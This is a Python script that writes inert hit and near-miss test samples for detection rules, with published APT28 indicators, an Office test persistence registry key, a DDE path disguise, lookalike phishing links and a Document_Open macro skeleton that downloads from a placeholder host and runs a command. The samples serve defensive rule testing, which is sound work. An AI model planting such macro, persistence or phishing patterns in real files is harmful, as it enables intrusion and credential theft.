#!/usr/bin/env python3
"""Writes the samples of the starter rules: inert text with the published strings, and near misses.

NAME.hit must match the rule NAME and no other; NAME.miss must match no rule. Nothing here is a program: a sample
that begins with MZ holds the two letters and text.
"""

import pathlib

FOLDER = pathlib.Path(__file__).parent / "samples"
MZ = b"MZ inert sample, not a program\n"

SAMPLES = {
    "vauban_apt28_xtunnel": (
        MZ + b"E:\\PROJECT\\XAPS_OBJECTIVE_DLL\\Release\\XAPS_OBJECTIVE.pdb\n",
        b"A report says: E:\\PROJECT\\XAPS_OBJECTIVE_DLL\\Release\\XAPS_OBJECTIVE.pdb, XAPS_OBJECTIVE.dll, is you live?\n",
    ),
    "vauban_apt28_seduploader": (
        MZ + "513AbTAsEpcq4mf6TEacB".encode("utf-16-le"),
        MZ + b"513AbTAsEpcq4mf6TEacC jhuhugit.tmp\n",
    ),
    "vauban_apt28_sedreco": (MZ + b"\0AZZYMTX\0", MZ + b"\0JAZZYMTXS\0"),
    "vauban_apt28_downdelph_bootkit": (
        MZ + b"d:\\new\\hideinstaller\\Bin\\Debug\\wxp\\x86\\fsflt.pdb\n",
        MZ + b"d:\\new\\installer\\Bin\\Debug\\wxp\\x86\\fsflt.pdb\n",
    ),
    "vauban_apt28_macos_tools": (
        b"\xcf\xfa\xed\xfe/Users/kazak/Desktop/Project/XAgentOSX/main.m\n",
        b"\xcf\xfa\xed\xfe/Users/kazakov/Desktop/Project/Agent/main.m\n",
    ),
    "vauban_apt28_office_test_persistence": (
        b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Office test\\Special\\Perf]\r\n@=\"x\"\r\n",
        b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Office\\16.0\\Word]\r\n@=\"x\"\r\n",
    ),
    "vauban_dde_office_path_disguise": (
        b"{ DDE \"C:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord.exe\\\\..\\\\..\\\\..\\\\..\\\\inert.example\" }\n",
        b"{ DDEAUTO excel \"C:\\\\Users\\\\ana\\\\budget.xlsx\" \"Sheet1!R1C1\" }\n",
    ),
    "vauban_phish_provider_name_continued": (
        b"Sign in: http://myaccount.google.com-inert-sample.example/security\n",
        b"Sign in: https://accounts.google.com/signin and https://login.live.com/login.srf?x=google.com-ok\n",
    ),
    "vauban_phish_password_alert_short_link": (
        b"Subject: Someone has your password\n\n<a href=\"https://bit.ly/inert000\">CHANGE PASSWORD</a>\n",
        b"Subject: Someone has your password\n\n<a href=\"https://myaccount.google.com/security\">CHECK ACTIVITY</a> see https://bit.ly/ok\n",
    ),
    "vauban_macro_downloads_and_starts": (
        b"Sub Document_Open()\nSet a = CreateObject(\"MSXML2.XMLHTTP\")\na.Open \"GET\", \"http://inert.example/\"\n"
        b"Set s = CreateObject(\"ADODB.Stream\")\nCreateObject(\"WScript.Shell\").Run \"inert\"\nEnd Sub\n",
        b"Sub Document_Open()\nSet a = CreateObject(\"MSXML2.XMLHTTP\")\na.Open \"GET\", \"http://intranet.example/rates.xml\"\n"
        b"Range(\"A1\").Value = a.responseText\nEnd Sub\n",
    ),
}

FOLDER.mkdir(exist_ok=True)
for name, (hit, miss) in SAMPLES.items():
    (FOLDER / f"{name}.hit").write_bytes(hit)
    (FOLDER / f"{name}.miss").write_bytes(miss)
